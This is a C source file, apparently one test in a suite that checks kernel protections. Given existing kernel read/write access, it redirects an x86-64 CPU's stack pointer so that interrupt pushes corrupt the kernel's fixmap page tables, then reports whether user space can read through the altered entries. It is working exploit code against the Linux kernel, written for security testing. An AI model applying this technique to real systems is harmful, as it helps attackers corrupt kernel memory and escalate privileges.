// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attack on where an interrupt saves registers: at the stack pointer, whatever that is,
 * and with the gate of what it interrupts. A CPU takes the stack of a system call from
 * ordinary memory. Here it is data of the kernel's image behind the tables of the
 * fixmap, and so low that all of mprotect() fits above, but not what an interrupt of
 * its section pushes. Registers have entries that it changes. That CPU dies of the next
 * push; it is told that another one panics already.
 */
#include <setjmp.h>
#include <signal.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"
#include "list.h"
#include "objects.h"

#ifdef __x86_64__
#define CHANGER_CPU	1
#define CHANGED_PART	0x58
#define CHANGED_TABLES	64
#define FUNCTION	"change_in_section"
#define FUNCTION_SIZE	0x1000
#define TABLES		"level1_fixmap_pgt"
#define NR_TABLES	2
#define FIXMAP		0xffffffffff600000UL	/* what the last one maps */
#define TOP_OF_STACK	"pcpu_hot"
#define KERNEL_CS	0x10
#define PUSHED		64	/* bytes up to rdx */
#define ALIGNMENT	16UL
#define SECONDS		20
#define LAST_SLOTS	40
#define POPULATE	23

static struct {
	volatile bool ready, calibrated, go, gone;
} *changer;

static sigjmp_buf no_page;

static void on_fault(int signal)
{
	siglongjmp(no_page, signal);
}

static size_t changed_size(void)
{
	return CHANGED_TABLES * PMD_SIZE;
}

static void change(int protection)
{
	mprotect((void *)user_room(CHANGED_PART), changed_size(), protection);
}

static void run_changer(void)
{
	stay_on_cpu(CHANGER_CPU);
	changer->ready = true;
	while (!changer->calibrated) {
		change(PROT_READ);
		change(PROT_READ | PROT_WRITE);
		madvise((void *)user_room(CHANGED_PART), changed_size(), POPULATE);
	}
	while (!changer->go)
		;
	change(PROT_READ);
	changer->gone = true;
	for (;;)
		;
}

/* How far below its top the section has the stack pointer. */
static uint64_t find_depth(const struct task *task, uint64_t top)
{
	uint64_t function = ksymbol(FUNCTION), words[2048];
	time_t end = time(NULL) + SECONDS;
	size_t i;

	while (time(NULL) < end) {
		for (i = 0; i < sizeof(words); i += PAGE_SIZE)
			kread(task->stack + i, (char *)words + i, PAGE_SIZE);
		for (i = 0; i < sizeof(words) / 8 - 4; i++)
			if (words[i] - function < FUNCTION_SIZE && words[i + 1] == KERNEL_CS &&
			    words[i + 3] - task->stack < sizeof(words))
				return top - words[i + 3];
	}
	return 0;
}

static bool can_read(volatile char *page)
{
	if (sigsetjmp(no_page, 1))
		return false;
	(void)*page;
	return true;
}

static enum outcome look(const uint64_t *before, uint64_t table)
{
	int slot, n = PAGE_SIZE / 8, changed = 0;
	uint64_t value, last = 0;

	signal(SIGSEGV, on_fault);
	for (slot = n - LAST_SLOTS; slot < n; slot++) {
		value = kread64(table + slot * 8);
		if (value == before[slot])
			continue;
		changed++;
		last = value;
		if (value & PTE_PRESENT && can_read((char *)FIXMAP + slot * PAGE_SIZE))
			return won("entry %d of the kernel's fixmap is 0x%lx, and user space reads by it",
				   slot, value);
	}
	if (changed)
		return won("%d entries of the kernel's fixmap were changed, one to 0x%lx", changed, last);
	return lost("no entry of the fixmap was changed, mprotect() %s", changer->gone ? "came back" : "did not come back");
}

enum outcome stack_end(void)
{
	uint64_t top, normal, depth, table, before[512];
	char data[4096];
	struct task task;
	pid_t pid;
	int zero = 0;

	if (!is_protected())
		return user_pte();
	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	changer = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (mmap((void *)user_room(CHANGED_PART), changed_size(), PROT_READ | PROT_WRITE,
		 MAP_SHARED | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE | MAP_POPULATE, -1, 0) == MAP_FAILED)
		return broken("no memory");
	stay_on_cpu(0);
	pid = fork();
	if (!pid)
		run_changer();
	while (!changer->ready)
		usleep(1000);
	ktask(pid, &task);
	normal = task.stack + task.stack_size;
	top = find_word(ksymbol_cpu(TOP_OF_STACK, CHANGER_CPU), 64, normal);
	depth = top ? find_depth(&task, normal) : 0;
	changer->calibrated = true;
	if (!depth)
		return broken("no interrupt of a section was seen");
	usleep(500000);
	table = ksymbol(TABLES) + (NR_TABLES - 1) * PAGE_SIZE;
	kread(table, before, sizeof(before));
	kread(table + PAGE_SIZE, data, sizeof(data));
	kwrite(ksymbol("panic_cpu"), &zero, sizeof(zero));
	if (kread64(top) != normal)
		return broken("another task runs there");
	kwrite64(top, table + PAGE_SIZE + PUSHED + ((depth + ALIGNMENT - 1) & -ALIGNMENT));
	changer->go = true;
	usleep(500000);
	if (changer->gone)
		kwrite64(top, normal);
	return look(before, table);
}
#else
enum outcome stack_end(void)
{
	return skipped("x86-64 only");
}
#endif
